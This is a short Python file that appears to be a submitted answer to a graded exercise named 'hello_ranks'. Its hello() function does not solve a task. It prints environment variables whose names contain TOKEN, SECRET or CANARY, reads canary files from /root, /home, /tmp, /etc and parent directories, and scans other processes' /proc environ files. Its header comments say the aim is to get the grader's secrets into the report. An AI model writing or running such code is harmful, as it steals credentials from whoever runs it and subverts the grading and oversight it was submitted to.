# %%answer hello_ranks
# tries: prints whatever canary, key or token it finds in homes, environments and other processes
# unprotected: secrets of the grading person are in the report
import contextlib
import glob
import os
import sys

hpml = sys.modules.get("hpml") or __import__("hpml")


def hello(number):
    for name, value in os.environ.items():
        if any(word in name for word in ("TOKEN", "SECRET", "CANARY")):
            print(name, value)
    up = os.path.dirname(hpml.__file__)
    places = ["/root", "/home/*", os.path.expanduser("~"), "/tmp", "/etc"]
    while up != "/":
        up = os.path.dirname(up)
        places.append(up)
    for place in places:
        for name in glob.glob(f"{place}/*canary*"):
            with contextlib.suppress(OSError):
                print(open(name).read())
    for environment in glob.glob("/proc/*/environ"):
        with contextlib.suppress(OSError):
            if b"CANARY" in open(environment, "rb").read():
                print("hpml-canary-read", environment)
    return number
